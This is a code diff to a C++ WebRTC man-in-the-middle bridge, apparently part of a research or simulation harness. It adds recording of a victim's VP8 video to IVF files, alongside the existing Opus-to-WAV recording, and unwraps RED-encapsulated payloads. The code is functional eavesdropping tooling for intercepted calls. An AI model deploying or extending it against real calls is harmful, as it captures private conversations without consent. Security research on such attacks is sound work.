@@ -2,11 +2,13 @@
 #include "attacks/sdp_rules.hpp"
 
 #include <cctype>
+#include <set>
 
 #include "attacks/media_recorder.hpp"
 #include "attacks/sctp.hpp"
 #include "attacks/sdp_rewrite.hpp"
 #include "attacks/srtp_session.hpp"
+#include "attacks/vp8_recorder.hpp"
 #include "net/dtls_endpoint.hpp"
 #include "net/ice_agent.hpp"
 #include "trust/out_of_band.hpp"
@@ -63,6 +65,43 @@ std::map<int, std::pair<std::string, std::string>> rtp_payload_types(const sdp::
   return out;
 }
 
+// What the attacker writes of one SSRC: Opus as WAV, VP8 as IVF.
+struct Recording {
+  std::string codec;  // the encoding name it records: "opus" or "vp8"
+  std::unique_ptr<OpusWavRecorder> opus;
+  std::unique_ptr<Vp8IvfRecorder> vp8;
+  // A payload of encoding `name`. False when it did not decode (Opus) or was
+  // malformed or ended an incomplete frame (VP8). Another encoding on the same
+  // SSRC (FEC, comfort noise) is not recorded; in video it takes its sequence number.
+  bool add(const RtpHeader& h, const std::string& name, std::span<const std::uint8_t> payload) {
+    if (name != codec) {
+      if (vp8) vp8->add(h.sequence, h.timestamp, h.marker, {});
+      return true;
+    }
+    return opus ? opus->add(payload) : vp8->add(h.sequence, h.timestamp, h.marker, payload);
+  }
+};
+
+// RFC 2198 (RED, which Chromium wraps video in): the primary block's payload
+// type and data, after the 4-byte headers of the redundant blocks and their
+// data. nullopt when the headers or lengths run past the payload.
+std::optional<std::pair<int, std::span<const std::uint8_t>>> red_primary(std::span<const std::uint8_t> p) {
+  size_t at = 0, redundant = 0;
+  for (; at < p.size() && (p[at] & 0x80); at += 4) {
+    if (at + 4 > p.size()) return std::nullopt;
+    redundant += static_cast<size_t>(((p[at + 2] & 0x03) << 8) | p[at + 3]);
+  }
+  if (at >= p.size() || at + 1 + redundant > p.size()) return std::nullopt;
+  return std::pair{p[at] & 0x7f, p.subspan(at + 1 + redundant)};
+}
+
+// The encoding name of an a=rtpmap value ("VP8/90000" -> "vp8").
+std::string encoding_name(const std::string& rtpmap) {
+  std::string name = rtpmap.substr(0, rtpmap.find('/'));
+  for (auto& c : name) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+  return name;
+}
+
 // Logs the 1st, 2nd, 4th, 8th… occurrence: a flood of bad packets stays a few lines.
 bool worth_logging(std::uint64_t n) { return n != 0 && (n & (n - 1)) == 0; }
 
@@ -95,7 +134,8 @@ struct MitmBridge::RoomBridge {
   RelayedMessage offer_msg;
   bool offer_forwarded = false;
   bool grind_started = false;
-  std::map<std::uint32_t, std::unique_ptr<OpusWavRecorder>> recorders;  // by SSRC
+  std::map<std::uint32_t, Recording> recorders;  // by SSRC
+  std::set<std::uint32_t> recording_tried;  // SSRCs whose recording started or could not
 
   RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
     // A channel is opened by one side and used by both: one table of labels.
@@ -298,7 +338,6 @@ struct MitmBridge::RoomBridge {
             break;
           }
         stream.payload_type = h->payload_type;
-        start_recording(h->ssrc, stream);
         event("attack.media", "reading " + (stream.kind.empty() ? std::string("RTP") : stream.kind) + " from " +
                                   l.victim + " (SSRC " + std::to_string(h->ssrc) + ", payload type " +
                                   std::to_string(h->payload_type) + (stream.codec.empty() ? "" : " " + stream.codec) +
@@ -306,25 +345,64 @@ struct MitmBridge::RoomBridge {
       }
       ++stream.packets;
       stream.bytes += h->payload_size;
-      if (auto r = recorders.find(h->ssrc); r != recorders.end())
-        if (!r->second->add(std::span(p).subspan(h->header_size, h->payload_size))) ++stream.undecodable;
+      record(l, to, *h, std::span(p).subspan(h->header_size, h->payload_size), stream);
     }
     if (!to.srtp_out || !to.ready) return reject("the other leg has no SRTP yet");
     if (!to.srtp_out->protect(p, rtcp)) return reject("protect failed");
     to.ice->send(p);
   }
 
-  // Opus is decoded to a WAV file per SSRC when the world says where.
+  // The codec an SDP names for a payload type: the sender's, or the other's if it did not.
+  static std::string codec_of(const Leg& l, const Leg& to, int payload_type) {
+    for (const Leg* sdp_of : {&l, &to})
+      if (auto pt = sdp_of->payload_types.find(payload_type); pt != sdp_of->payload_types.end())
+        return pt->second.second;
+    return {};
+  }
+
+  // One payload to its SSRC's recording, RED unwrapped; the recording starts
+  // with the first Opus or VP8 payload of the SSRC, whose codec the stream then reports.
+  void record(const Leg& l, const Leg& to, const RtpHeader& h, std::span<const std::uint8_t> payload,
+              AttackerSessionReport::MediaStream& stream) {
+    std::string codec = codec_of(l, to, h.payload_type);
+    if (encoding_name(codec) == "red") {
+      const auto primary = red_primary(payload);
+      if (!primary) return void(++stream.undecodable);
+      codec = codec_of(l, to, primary->first);
+      payload = primary->second;
+    }
+    const std::string name = encoding_name(codec);
+    auto r = recorders.find(h.ssrc);
+    if (r == recorders.end() && (name == "opus" || name == "vp8") && !bridge.world_.media_dir.empty() &&
+        recording_tried.insert(h.ssrc).second) {
+      stream.codec = codec;
+      start_recording(h.ssrc, stream);
+      r = recorders.find(h.ssrc);
+    }
+    if (r != recorders.end() && !r->second.add(h, name, payload)) ++stream.undecodable;
+  }
+
+  // Opus is decoded to a WAV file per SSRC, VP8 reassembled into an IVF
+  // file per SSRC, when the world says where.
   void start_recording(std::uint32_t ssrc, AttackerSessionReport::MediaStream& stream) {
     const std::string& dir = bridge.world_.media_dir;
-    std::string codec = stream.codec.substr(0, 4);
-    for (auto& c : codec) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
-    if (dir.empty() || codec != "opus" || recorders.size() >= 16) return;
-    const std::string path =
-        dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" + std::to_string(ssrc) + ".wav";
-    auto r = OpusWavRecorder::open(path);
-    if (!r) return event("attack.media", "cannot record: " + r.error().message);
-    recorders[ssrc] = std::move(*r);
+    const std::string codec = encoding_name(stream.codec);
+    if (dir.empty() || (codec != "opus" && codec != "vp8") || recorders.size() >= 16) return;
+    const std::string path = dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" +
+                             std::to_string(ssrc) + (codec == "opus" ? ".wav" : ".ivf");
+    Recording rec{codec, nullptr, nullptr};
+    std::string error;
+    if (codec == "opus") {
+      auto r = OpusWavRecorder::open(path);
+      if (r) rec.opus = std::move(*r);
+      else error = r.error().message;
+    } else {
+      auto r = Vp8IvfRecorder::open(path);
+      if (r) rec.vp8 = std::move(*r);
+      else error = r.error().message;
+    }
+    if (!error.empty()) return event("attack.media", "cannot record: " + error);
+    recorders[ssrc] = std::move(rec);
     stream.files.push_back(path);
   }
 
